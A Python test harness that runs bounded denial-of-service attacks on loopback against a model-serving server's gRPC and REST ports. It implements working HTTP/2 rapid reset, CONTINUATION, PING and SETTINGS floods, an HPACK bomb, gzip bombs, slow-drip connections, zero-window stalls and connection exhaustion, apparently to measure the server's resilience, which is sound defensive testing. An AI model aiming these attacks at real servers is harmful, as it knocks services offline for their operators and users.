"""What hostile and broken clients do to a server, each for a few seconds, on loopback.

An attack either goes on until its time is up, with one connection after the other, or leaves lines
behind that wait for the server's patience to end: a ``Warden`` keeps those and notes their ends.
What every attack may take of this machine is bounded: connections, bytes and seconds.
"""

from __future__ import annotations

import re
import select
import socket
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from itertools import count
from time import monotonic
from typing import Final

import servers
from salver.wire.hpack import HpackEncoder
from salver.wire.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEAD,
    HEAD_BYTES,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    ErrorCode,
    Setting,
    frame,
)
from whole_server import grpc_request

PREDICT: Final = b"/tensorflow.serving.PredictionService/Predict"
METADATA: Final = b"/tensorflow.serving.PredictionService/GetModelMetadata"
REFLECTION: Final = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

HELLO: Final = PREFACE + frame(SETTINGS, 0, 0)
WAVE_BYTES: Final = 1 << 16
KEPT_BYTES: Final = 1 << 16
HELD_BYTES: Final = 256 << 20
"""What an attack on memory sends at most: this machine has others on it."""

CROWD: Final = 10_000
ASK_METADATA: Final = b"\0\0\0\0\x20\x0a\x0f\x0a\x0dhalf_plus_two\x12\x0dsignature_def"
"""A message that asks for half_plus_two's metadata, with its prefix."""

EXTENSION: Final = 0x42
UNFINISHED_BYTES: Final = (1 << 20) - 1


@dataclass(frozen=True, slots=True)
class Doors:
    """Where a server can be attacked."""

    grpc_port: int
    rest_port: int


class Line:
    """One hostile connection and what came back on it."""

    def __init__(self, port: int, *, reads: bool = True) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.socket.setblocking(False)
        self.began_s = monotonic()
        self.ended_s: float | None = None
        self.reads = reads
        self.drips = 0
        self.received = bytearray()

    def send(self, data: bytes) -> int:
        """Send what the socket takes; how much that was."""
        try:
            return self.socket.send(data)
        except BlockingIOError:
            return 0
        except OSError:
            self._end()
            return 0

    def push(self, data: bytes, until_s: float) -> int:
        """Send it all, and read meanwhile, as long as the line and the time last."""
        view = memoryview(data)
        while view and self.ended_s is None and (left_s := until_s - monotonic()) > 0:
            if self.wait(select.POLLOUT, min(left_s, 0.1)):
                view = view[self.send(view) :]
            if self.reads:
                self.read()
        return len(data) - len(view)

    def read(self) -> None:
        """Take what has come, and keep the beginning and the end of it."""
        try:
            while data := self.socket.recv(1 << 16):
                self.received += data
                if len(self.received) > 4 * KEPT_BYTES:
                    del self.received[KEPT_BYTES:-KEPT_BYTES]
        except BlockingIOError:
            return
        except OSError:
            pass
        self._end()

    def wait_for_end(self, until_s: float) -> None:
        """Read until the server hangs up."""
        while self.ended_s is None and (left_s := until_s - monotonic()) > 0:
            self.wait(select.POLLIN, left_s)
            self.read()

    def close(self) -> None:
        """Hang up."""
        self.socket.close()

    def wait(self, event: int, seconds: float) -> bool:
        """Wait until the socket is ready for something; whether it is."""
        poll = select.poll()  # select itself knows no more than 1,024 descriptors
        poll.register(self.socket, event)
        return bool(poll.poll(seconds * 1e3))

    def _end(self) -> None:
        """The server hung up: what it said before is still to be had."""
        if self.ended_s is not None:
            return
        self.ended_s = monotonic()
        if self.reads:
            with suppress(OSError):
                while data := self.socket.recv(1 << 16):
                    self.received += data

    @property
    def answer(self) -> str:
        """What the server had to say: an HTTP status, GOAWAY's or RST_STREAM's code, or nothing."""
        if self.received.startswith(b"HTTP/1.1 "):
            statuses = re.findall(rb"HTTP/1\.1 (\d+)", bytes(self.received))
            return statuses[-1].decode()
        codes = dict(codes_of(bytes(self.received)))
        for kind, name in ((GOAWAY, "GOAWAY"), (RST_STREAM, "RST_STREAM")):
            if kind in codes:
                return f"{name} {ErrorCode(codes[kind]).name}"
        status = re.search(rb"grpc-status.(\d+)", bytes(self.received))
        return f"grpc-status {status[1].decode()}" if status else ""


def codes_of(received: bytes) -> Iterator[tuple[int, int]]:
    """The codes of the GOAWAY and RST_STREAM frames, as far as the frames were kept."""
    position = 0
    while position + HEAD_BYTES <= len(received):
        high, low, kind, _, _ = HEAD.unpack_from(received, position)
        start, position = position + HEAD_BYTES, position + HEAD_BYTES + (high << 8 | low)
        if kind == GOAWAY:
            yield kind, int.from_bytes(received[start + 4 : start + 8], "big")
        elif kind == RST_STREAM:
            yield kind, int.from_bytes(received[start : start + 4], "big")


class Warden:
    """Keeps lines that wait, feeds them their drips, and notes when the server ends them."""

    def __init__(self) -> None:
        self._epoll = select.epoll()
        self._lines: dict[int, Line] = {}
        self._drips: list[tuple[float, Line, Iterator[bytes]]] = []

    def keep(self, line: Line, drip: Iterable[bytes] = (), *, every_s: float = 1.0) -> Line:
        """Keep a line, and send it the next of ``drip`` now and then."""
        self._lines[line.socket.fileno()] = line
        self._epoll.register(line.socket.fileno(), select.EPOLLIN if line.reads else 0)
        if drip:
            self._drips.append((every_s, line, iter(drip)))
        return line

    def watch(self, seconds: float) -> None:
        """Feed and note for so long."""
        until_s = monotonic() + seconds
        while (left_s := until_s - monotonic()) > 0:
            self._feed()
            for number, _ in self._epoll.poll(min(left_s, 0.05)):
                line = self._lines[number]
                if line.reads:
                    line.read()
                else:
                    line.ended_s = monotonic()
                if line.ended_s is not None:
                    self._epoll.unregister(number)

    def is_waiting_for(self, lines: Iterable[Line]) -> bool:
        """Whether one of them is still there."""
        return any(line.ended_s is None for line in lines)

    def let_go(self, lines: Iterable[Line]) -> None:
        """Hang up on those that are still there."""
        gone = set()
        for line in lines:
            self._lines.pop(line.socket.fileno(), None)
            line.close()
            gone.add(line)
        self._drips = [each for each in self._drips if each[1] not in gone]

    def _feed(self) -> None:
        now_s = monotonic()
        for every_s, line, drip in self._drips:
            fed = int((now_s - line.began_s) / every_s)
            while line.ended_s is None and fed > line.drips:
                line.drips += 1
                line.send(next(drip, b""))


@dataclass(slots=True)
class Outcome:
    """What the attacker got: said at once, or by lines that still wait."""

    said: str = ""
    waiting: list[Line] | None = None
    may_stay: bool = False
    """The lines do nothing wrong, and are let go when the figures are taken."""

    def text(self) -> str:
        """The table's words for it."""
        if self.waiting is None:
            return self.said
        endings: Counter[str] = Counter()
        for line in self.waiting:
            if line.ended_s is None:
                endings["still there" + f", {line.answer}" * bool(line.answer)] += 1
            else:
                after_s = round(line.ended_s - line.began_s)
                endings[f"{line.answer or 'closed'} after {after_s} s"] += 1
        said = ", ".join(f"{number:,}x {what}" for what, number in endings.most_common(3))
        return f"{self.said}: {said}" if self.said else said


# --- floods: one connection after the other -------------------------------------------------------


def encoded(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The headers of a gRPC call, without entries in a table."""
    headers = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    )
    return HpackEncoder().encode(headers, indexed=False)


def begun(stream_id: int, path: bytes = PREDICT, flags: int = END_HEADERS) -> bytes:
    """The beginning of a gRPC call."""
    return frame(HEADERS, flags, stream_id, encoded(path))


Waves = Callable[[], Iterator[bytes]]


def flood(opening: bytes, waves: Waves, port: str = "grpc_port") -> Callable[..., Outcome]:
    """Pour until sent away, then begin anew."""

    def attack(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
        answers: Counter[str] = Counter()
        sent_bytes = 0
        while monotonic() < until_s:
            line = Line(getattr(doors, port))
            line.push(opening, until_s)
            for wave in waves():
                sent_bytes += line.push(wave, until_s)
                if line.ended_s is not None or monotonic() > until_s:
                    break
            else:
                line.wait_for_end(until_s)
            answers[line.answer or "nothing"] += 1
            line.close()
        said = ", ".join(f"{number:,}x {what}" for what, number in answers.most_common(2))
        return Outcome(f"{said}; sent {sent_bytes / 2**20:,.0f} MiB")

    return attack


def floods(number: int, opening: bytes, waves: Waves) -> Callable[..., Outcome]:
    """The same on many connections at once, each begun anew when it is sent away."""

    def attack(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
        answers: Counter[str] = Counter()
        crowd: dict[Line, tuple[Iterator[bytes], memoryview]] = {}
        while monotonic() < until_s:
            while len(crowd) < number:
                crowd[Line(doors.grpc_port)] = (waves(), memoryview(opening))
            for line, (left, wave) in list(crowd.items()):
                rest = wave[line.send(wave) :]
                crowd[line] = (left, rest or memoryview(next(left)))
                line.read()
                if line.ended_s is not None:
                    answers[line.answer or "nothing"] += 1
                    line.close()
                    del crowd[line]
        for line in crowd:
            line.close()
        return Outcome(", ".join(f"{count:,}x {what}" for what, count in answers.most_common(2)))

    return attack


def forever(piece: bytes) -> Waves:
    """The same again and again."""
    wave = piece * max(WAVE_BYTES // len(piece), 1)

    def waves() -> Iterator[bytes]:
        while True:
            yield wave

    return waves


def on_streams(piece: Callable[[int], bytes], per_wave: int = 1000) -> Waves:
    """The same on one stream after the other."""

    def waves() -> Iterator[bytes]:
        for first in count(1, 2 * per_wave):
            yield b"".join(piece(first + 2 * i) for i in range(per_wave))

    return waves


def taken_back() -> Waves:
    """Calls that are taken back at once."""
    block, code = encoded(PREDICT), int(ErrorCode.CANCEL).to_bytes(4, "big")
    return on_streams(
        lambda stream_id: (
            frame(HEADERS, END_HEADERS, stream_id, block) + frame(RST_STREAM, 0, stream_id, code)
        )
    )


def hpack_bomb() -> Waves:
    """One large entry, and blocks of nothing but references to it."""
    entry = b"\x40\x01a\x7f" + b"\xa1\x1e" + 4000 * b"x"  # a literal of 127 + 3873 octets
    first = encoded(PREDICT) + entry
    bomb = encoded(PREDICT) + b"\xbe" * 15_000

    def waves() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, first)
        for stream_id in count(3, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream_id, bomb)

    return waves


def greedy(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
    """Five hundred calls at a time on one connection: no attack, but as much as honest ones get."""
    block, message = encoded(PREDICT), grpc_request()
    body = b"\0" + len(message).to_bytes(4, "big") + message
    line = Line(doors.grpc_port)
    line.push(HELLO + frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")), until_s)
    answered = 0
    for first in count(1, 1000):
        wave = b"".join(
            frame(HEADERS, END_HEADERS, stream_id, block) + frame(DATA, END_STREAM, stream_id, body)
            for stream_id in range(first, first + 1000, 2)
        )
        line.push(wave, until_s)
        wanted = answered + 500
        while answered < wanted and line.ended_s is None and monotonic() < until_s:
            line.wait(select.POLLIN, 0.1)
            line.read()
            answered += taken_answers(line.received)
        if answered < wanted:
            break
    line.close()
    return Outcome(f"{answered:,} answers")


def taken_answers(received: bytearray) -> int:
    """How many streams end in what was received, which is taken away up to its last whole frame."""
    answers = position = 0
    while position + HEAD_BYTES <= len(received):
        high, low, kind, flags, _ = HEAD.unpack_from(received, position)
        end = position + HEAD_BYTES + (high << 8 | low)
        if end > len(received):
            break
        answers += kind in (HEADERS, DATA) and flags & END_STREAM
        position = end
    del received[:position]
    return answers


# --- memory ---------------------------------------------------------------------------------------


def endless(opening: bytes, piece: bytes, port: str) -> Callable[..., Outcome]:
    """A body that goes on and on, up to what this machine can spare."""

    def attack(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
        line = Line(getattr(doors, port))
        line.push(opening, until_s)
        sent_bytes = 0
        while sent_bytes < HELD_BYTES and line.ended_s is None and monotonic() < until_s:
            sent_bytes += line.push(piece, until_s)
        line.wait_for_end(until_s)
        said = f"{line.answer or 'nothing'}; sent {sent_bytes / 2**20:,.0f} MiB"
        line.close()
        return Outcome(said)

    return attack


def gzip_bomb(size: int) -> bytes:
    """So many zeros, packed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()


def grpc_bomb(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
    """One compressed message of 256 MiB of zeros."""
    packed = gzip_bomb(HELD_BYTES)
    until_s = max(until_s, monotonic() + 1)
    body = b"\1" + len(packed).to_bytes(4, "big") + packed
    headers = encoded(PREDICT, (b"grpc-encoding", b"gzip"))
    line = Line(doors.grpc_port)
    line.push(
        HELLO + frame(HEADERS, END_HEADERS, 1, headers) + frame(DATA, END_STREAM, 1, body),
        until_s,
    )
    line.wait_for_end(until_s)
    answer = line.answer or "nothing"
    line.close()
    return Outcome(f"{answer}; sent {len(packed) >> 10} KiB")


def rest_bomb(doors: Doors, _warden: Warden, until_s: float) -> Outcome:
    """A gzip body of 256 MiB of zeros, again and again."""
    packed = gzip_bomb(HELD_BYTES)
    until_s = max(until_s, monotonic() + 1)
    head = (
        f"POST /v1/models/{servers.MODEL}:predict HTTP/1.1\r\nContent-Encoding: gzip\r\n"
        f"Content-Length: {len(packed)}\r\nConnection: close\r\n\r\n"
    )
    answers: Counter[str] = Counter()
    while monotonic() < until_s:
        line = Line(doors.rest_port)
        line.push(head.encode() + packed, until_s)
        line.wait_for_end(until_s)
        answers[line.answer or "nothing"] += 1
        line.close()
    return Outcome(", ".join(f"{number}x {what}" for what, number in answers.most_common(2)))


# --- patience -------------------------------------------------------------------------------------


def lines(
    number: int,
    opening: bytes = b"",
    *,
    port: str = "grpc_port",
    drip: Callable[[], Iterable[bytes]] = tuple,
    every_s: float = 1.0,
    reads: bool = True,
    may_stay: bool = False,
    said: str = "",
) -> Callable[..., Outcome]:
    """So many lines that say ``opening`` and then a drip now and then."""

    def attack(doors: Doors, warden: Warden, until_s: float) -> Outcome:
        kept = []
        for _ in range(number):
            try:
                line = Line(getattr(doors, port), reads=reads)
            except OSError:
                break
            kept.append(warden.keep(line, drip(), every_s=every_s))
            line.push(opening, min(until_s, monotonic() + 1))
        warden.watch(max(until_s - monotonic(), 0.0))
        return Outcome(said, kept, may_stay)

    return attack


def octets(text: bytes) -> Callable[[], Iterable[bytes]]:
    """One octet after the other."""
    return lambda: (text[i : i + 1] for i in range(len(text)))


def unread_answers() -> bytes:
    """Windows as wide as they get, and many calls that are answered at length."""
    wide = int(Setting.INITIAL_WINDOW_SIZE).to_bytes(2, "big") + (2**31 - 1).to_bytes(4, "big")
    opening = PREFACE + frame(SETTINGS, 0, 0, wide)
    opening += frame(WINDOW_UPDATE, 0, 0, (2**31 - 1 - 65_535).to_bytes(4, "big"))
    block = encoded(METADATA)
    return opening + b"".join(
        frame(HEADERS, END_HEADERS, stream_id, block)
        + frame(DATA, END_STREAM, stream_id, ASK_METADATA)
        for stream_id in range(1, 20_000, 2)
    )


def zero_window() -> bytes:
    """No room for any answer, and as many calls as may be open."""
    none = int(Setting.INITIAL_WINDOW_SIZE).to_bytes(2, "big") + bytes(4)
    block = encoded(METADATA)
    return (
        PREFACE
        + frame(SETTINGS, 0, 0, none)
        + b"".join(
            frame(HEADERS, END_HEADERS, stream_id, block)
            + frame(DATA, END_STREAM, stream_id, ASK_METADATA)
            for stream_id in range(1, 2000, 2)
        )
    )


def half_calls(path: bytes, streams: int, size: int) -> bytes:
    """Calls that announce much, send a part of it, and leave it at that."""
    prefix = b"\0" + (1 << 30).to_bytes(4, "big")
    part = prefix + bytes(size - len(prefix))
    return HELLO + b"".join(
        begun(stream_id, path) + frame(DATA, 0, stream_id, part)
        for stream_id in range(1, 2 * streams, 2)
    )


def half_frames() -> bytes:
    """A frame of a type that nobody knows, a megabyte long, without its last octet."""
    return HELLO + frame(EXTENSION, 0, 0, bytes(UNFINISHED_BYTES))[:-1]


def idle_crowd(doors: Doors, warden: Warden, until_s: float) -> Outcome:
    """Ten thousand who are there: half say nothing, a quarter asked something, a quarter may."""
    kept = []
    for number in range(CROWD):
        quarter = number % 4
        try:
            line = Line(doors.grpc_port if quarter % 2 else doors.rest_port)
        except OSError:
            break
        kept.append(warden.keep(line))
        if quarter == 0:
            line.send(b"GET /v1/models/half_plus_two HTTP/1.1\r\n\r\n")
        elif quarter == 1:
            line.send(HELLO)
    began_s = monotonic()
    warden.watch(max(until_s - began_s, 2.0))
    return Outcome("all welcome", kept, may_stay=True)


def no_descriptors(doors: Doors, warden: Warden, until_s: float) -> Outcome:
    """More connections than the server may have descriptors; whoever is cut comes again."""
    kept: list[Line] = []
    sent_away = 0
    while monotonic() < until_s:
        if len(kept) < 1000:
            with suppress(OSError):
                kept.append(warden.keep(Line(doors.grpc_port)))
        else:
            warden.watch(0.1)
            gone = [line for line in kept if line.ended_s is not None]
            sent_away += len(gone)
            warden.let_go(gone)
            kept = [line for line in kept if line.ended_s is None]
    inside = sum(line.ended_s is None for line in kept)
    return Outcome(f"{sent_away:,}x closed; {inside:,} inside or waiting", kept, may_stay=True)


SLOW_HEADERS: Final = begun(1)
CHUNK: Final = b"10000\r\n" + bytes(1 << 16) + b"\r\n"
DATA_FRAME: Final = frame(DATA, 0, 1, bytes(16_384))
ENDLESS_POST: Final = b"POST /v1/models/half_plus_two:predict HTTP/1.1\r\nHost: x\r\n"

FLOODS: Final[dict[str, Callable[..., Outcome]]] = {
    "rapid reset": flood(HELLO, taken_back()),
    "rapid reset, 32 lines at once": floods(32, HELLO, taken_back()),
    "CONTINUATION flood": flood(
        HELLO + begun(1, flags=0), forever(frame(CONTINUATION, 0, 1, b"\0\x01a\x01b"))
    ),
    "empty CONTINUATION flood": flood(
        HELLO + begun(1, flags=0), forever(frame(CONTINUATION, 0, 1))
    ),
    "SETTINGS flood": flood(HELLO, forever(frame(SETTINGS, 0, 0))),
    "PING flood": flood(HELLO, forever(frame(PING, 0, 0, bytes(8)))),
    "empty DATA flood": flood(HELLO + begun(1), forever(frame(DATA, 0, 1))),
    "WINDOW_UPDATE flood": flood(
        HELLO + begun(1), forever(frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")))
    ),
    "PRIORITY flood": flood(HELLO, forever(frame(PRIORITY, 0, 9, bytes(5)))),
    "HPACK bomb": flood(HELLO, hpack_bomb()),
    "HTTP/1.1 head without end": flood(
        b"GET / HTTP/1.1\r\n", forever(b"X: " + bytes(97).replace(b"\0", b"a")), "rest_port"
    ),
    "HTTP/1.1 garbage": flood(b"", forever(b"\xff\xfe\r\n"), "rest_port"),
    "HTTP/1.1 pipeline without end": flood(
        b"", forever(b"GET /v1/models/half_plus_two HTTP/1.1\r\n\r\n"), "rest_port"
    ),
    "calls without a pause (honest, greedy)": greedy,
    "gzip bomb, gRPC": grpc_bomb,
    "gzip bomb, REST": rest_bomb,
    "chunked body without end": endless(
        ENDLESS_POST + b"Transfer-Encoding: chunked\r\n\r\n", CHUNK, "rest_port"
    ),
    "DATA without end": endless(
        HELLO + begun(1) + frame(DATA, 0, 1, b"\0\x7f\xff\xff\xff"), DATA_FRAME, "grpc_port"
    ),
}

WAITS: Final[dict[str, Callable[..., Outcome]]] = {
    "1,000 who connect and say nothing": lines(1000, may_stay=True),
    "HTTP/1.1 head, an octet a second": lines(
        100, drip=octets(b"GET /" + b"a" * 200), port="rest_port"
    ),
    "HTTP/1.1 body, an octet a second": lines(
        100,
        ENDLESS_POST + b"Content-Length: 1000\r\n\r\n",
        drip=octets(b"x" * 200),
        port="rest_port",
    ),
    "HTTP/1.1 body that stops": lines(
        100, ENDLESS_POST + b"Content-Length: 1000\r\n\r\nx", port="rest_port"
    ),
    "HTTP/2 preface, an octet each 4 s": lines(100, drip=octets(PREFACE), every_s=4),
    "HTTP/2 HEADERS, an octet a second": lines(100, HELLO, drip=octets(SLOW_HEADERS)),
    "HTTP/2 DATA, an octet a second": lines(
        100, HELLO + begun(1), drip=lambda: [frame(DATA, 0, 1, b"\0")] * 200
    ),
    "call that stops": lines(100, HELLO + begun(1) + frame(DATA, 0, 1, b"\0")),
    "zero window": lines(10, zero_window()),
    "zero window, a PING a second": lines(
        10, zero_window(), drip=lambda: [frame(PING, 0, 0, bytes(8))] * 200
    ),
    "HTTP/2 peer that reads nothing": lines(2, unread_answers(), reads=False),
    "HTTP/1.1 peer that reads nothing": lines(
        2,
        b"GET /v1/models/half_plus_two/metadata HTTP/1.1\r\n\r\n" * 20_000,
        port="rest_port",
        reads=False,
    ),
    "256 MiB in unfinished calls": lines(4, half_calls(PREDICT, 64, 1 << 20)),
    "64 MiB in unfinished streaming calls": lines(4, half_calls(REFLECTION, 16, 1 << 20)),
    "100 MiB in unfinished frames": lines(100, half_frames()),
    "10,000 idle connections": idle_crowd,
}

HANDSHAKES: Final[dict[str, Callable[..., Outcome]]] = {
    "TLS handshake that stops": lines(200, bytes.fromhex("1603010200010001fc0303")),
    "TLS handshake that never begins": lines(200),
    "plain text to TLS": flood(b"", forever(b"GET / HTTP/1.1\r\n\r\n")),
}
